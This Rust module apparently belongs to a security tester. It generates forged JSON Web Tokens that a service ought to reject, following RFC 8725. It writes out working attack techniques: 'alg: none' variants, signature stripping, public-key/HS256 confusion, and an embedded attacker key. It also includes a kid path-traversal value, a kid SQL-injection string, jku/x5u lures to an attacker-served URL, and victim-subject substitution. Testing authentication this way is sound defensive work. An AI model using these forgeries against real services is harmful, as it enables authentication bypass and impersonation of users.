//! Tokens that must be refused: forged from good ones without any key of the service, or good for something else.
//!
//! The list follows RFC 8725 and what was found in real libraries: each forgery is accepted by a service with that very
//! mistake, and by no other.

mod jwt;
mod key;

use serde_json::{Value, json};

use jwt::Jwt;
pub(crate) use key::Attacker;
use key::PublicKey;

/// Spellings of the algorithm that signs nothing; lists of forbidden names miss some.
const NONES: [(&str, &str); 4] = [
    ("algorithm none", "none"),
    ("algorithm None", "None"),
    ("algorithm NONE", "NONE"),
    ("algorithm nOnE", "nOnE"),
];
/// A key id that leads to an empty file, and so to an empty secret.
const KID_TRAVERSING: &str = "../../../../../../../../dev/null";
/// A key id that makes a look-up by SQL yield a secret that the attacker has chosen, and that secret.
const KID_SQL: (&str, &str) = ("' union select 'crosstalk' -- ", "crosstalk");

/// A token that must be refused.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(crate) struct Forged {
    /// What was done to it.
    pub(crate) name: &'static str,
    /// The token.
    pub(crate) token: String,
    /// Whether it claims to be the victim's; else it is the attacker's own with something wrong.
    pub(crate) as_victim: bool,
    /// What a deceived service would fetch, from a place that no other forgery names.
    pub(crate) lure: Option<String>,
}

/// What forgeries are made from.
#[derive(Clone, Copy, Debug)]
pub(crate) struct Material<'a> {
    /// A good access token of the attacker's.
    pub(crate) own: &'a str,
    /// A good refresh token of the attacker's.
    pub(crate) own_refresh: Option<&'a str>,
    /// A good access token of the victim's: its claims are what an attacker may know, its signature is not used.
    pub(crate) victim: Option<&'a str>,
    /// The service's public keys, a JSON Web Key Set (RFC 7517).
    pub(crate) key_set: Option<&'a str>,
    /// Where the attacker serves a key set of its own: a URL, and whatever is below it.
    pub(crate) lure: &'a str,
}

/// All forgeries that there can be of the material: those of a JWT where the tokens are JWTs, a few of the bytes alone
/// where they are not. The same names in the same order for all users of a service.
pub(crate) fn attacks(attacker: &Attacker, material: &Material<'_>) -> Vec<Forged> {
    let own = Jwt::parse(material.own);
    let mut forged = match &own {
        Some(own) => of_jwt(attacker, material, own, false),
        None => of_opaque(material.own, false),
    };
    if let Some(refresh) = material.own_refresh {
        forged.push(named("refresh token as access token", refresh.to_owned(), false));
    }
    let Some(victim) = material.victim else {
        return forged;
    };
    match (&own, Jwt::parse(victim)) {
        (Some(own), Some(victim)) => {
            forged.extend(of_jwt(attacker, material, &victim, true));
            forged.extend(own.with_subject_of(&victim).map(|token| {
                let name = "subject of another under one's own signature";
                named(name, token, true)
            }));
        }
        _ => {
            forged.extend(of_opaque(victim, true));
            forged.extend(spliced(material.own, victim));
        }
    }
    forged
}

fn named(name: &'static str, token: String, as_victim: bool) -> Forged {
    Forged {
        name,
        token,
        as_victim,
        lure: None,
    }
}

/// Forgeries with the claims of `jwt`.
fn of_jwt(attacker: &Attacker, material: &Material<'_>, jwt: &Jwt, as_victim: bool) -> Vec<Forged> {
    let mut forged = unsigned(jwt);
    forged.extend(signed_with_public_key(material.key_set, jwt));
    forged.extend(signed_by_attacker(attacker, jwt));
    let mut forged: Vec<_> = forged
        .into_iter()
        .map(|(name, token)| named(name, token, as_victim))
        .collect();
    forged.extend(luring(attacker, material.lure, jwt, as_victim));
    forged
}

type Tokens = Vec<(&'static str, String)>;

/// Nothing vouches for the claims.
fn unsigned(jwt: &Jwt) -> Tokens {
    let mut forged: Tokens = NONES
        .map(|(name, none)| (name, jwt.with_header(&[("alg", json!(none))]).signed(&[])))
        .into();
    forged.extend([
        ("signature empty", jwt.signed(&[])),
        ("signature removed", jwt.message()),
        ("signature zeroed", jwt.signed(&vec![0; jwt.signature().len()])),
    ]);
    forged.extend(
        jwt.signature_flipped()
            .map(|signature| ("signature flipped in the middle", jwt.signed(&signature))),
    );
    forged
}

/// The public key, which everybody knows, taken for a shared secret.
fn signed_with_public_key(key_set: Option<&str>, jwt: &Jwt) -> Tokens {
    let Some(key) = key_set.and_then(|set| PublicKey::find(set, jwt.key_id())) else {
        return Vec::new();
    };
    let confused = jwt.with_header(&[("alg", json!("HS256"))]);
    let secrets = [
        ("public key as PEM for HS256", key.pem()),
        ("public key as DER for HS256", key.der()),
        ("public key as JWK for HS256", Some(key.jwk().into())),
    ];
    let with = |(name, secret): (_, Option<Vec<u8>>)| Some((name, confused.signed_hs256(&secret?)?));
    secrets.into_iter().filter_map(with).collect()
}

/// A key that the attacker brings along or knows vouches for the claims.
fn signed_by_attacker(attacker: &Attacker, jwt: &Jwt) -> Tokens {
    let es256 = |members: &[(&str, Value)]| {
        let header = [("alg", json!("ES256"))];
        attacker.sign(&jwt.with_header(header.iter().chain(members)))
    };
    let hs256 = |kid: &str, secret: &str| {
        let header = [("alg", json!("HS256")), ("kid", json!(kid))];
        jwt.with_header(&header).signed_hs256(secret.as_bytes())
    };
    let kid = || ("kid", json!(attacker.key_id()));
    let (sql, secret) = KID_SQL;
    let forged = [
        ("attacker's key under the same key id", es256(&[])),
        ("attacker's key under an unknown key id", es256(&[kid()])),
        (
            "attacker's key embedded as jwk",
            es256(&[kid(), ("jwk", attacker.jwk())]),
        ),
        ("key id traversing folders", hs256(KID_TRAVERSING, "")),
        ("key id in SQL", hs256(sql, secret)),
    ];
    forged
        .into_iter()
        .filter_map(|(name, token)| Some((name, token?)))
        .collect()
}

/// A key that the service would have to fetch from the attacker vouches for the claims.
fn luring<'a>(
    attacker: &'a Attacker,
    lure: &'a str,
    jwt: &'a Jwt,
    as_victim: bool,
) -> impl Iterator<Item = Forged> + 'a {
    let members = [
        ("attacker's key set by jku", "jku"),
        ("attacker's certificate by x5u", "x5u"),
    ];
    members.into_iter().filter_map(move |(name, member)| {
        let url = format!("{lure}/{member}{}", if as_victim { "-as-victim" } else { "" });
        let header = [
            ("alg", json!("ES256")),
            ("kid", json!(attacker.key_id())),
            (member, json!(url)),
        ];
        Some(Forged {
            lure: Some(url),
            ..named(name, attacker.sign(&jwt.with_header(&header))?, as_victim)
        })
    })
}

/// What can be done to bytes that say nothing.
fn of_opaque(token: &str, as_victim: bool) -> Vec<Forged> {
    let cut = token.char_indices().nth_back(0).map_or(0, |(at, _)| at);
    let middle = token.char_indices().nth(token.chars().count() / 2);
    let flipped = middle.map(|(at, c)| {
        let other = if c == 'A' { 'B' } else { 'A' };
        format!("{}{other}{}", &token[..at], &token[at + c.len_utf8()..])
    });
    let mut forged = vec![named(
        "last character cut off",
        token[..cut].to_owned(),
        as_victim,
    )];
    forged.extend(flipped.map(|token| named("middle character changed", token, as_victim)));
    forged
}

/// The beginning of the victim's token, the end of one's own: what is looked up by a prefix takes one for the other.
fn spliced(own: &str, victim: &str) -> Option<Forged> {
    let (begin, end) = (victim.get(..victim.len() / 2)?, own.get(own.len() / 2..)?);
    Some(named(
        "another's beginning, one's own end",
        format!("{begin}{end}"),
        true,
    ))
}

#[cfg(test)]
mod tests;
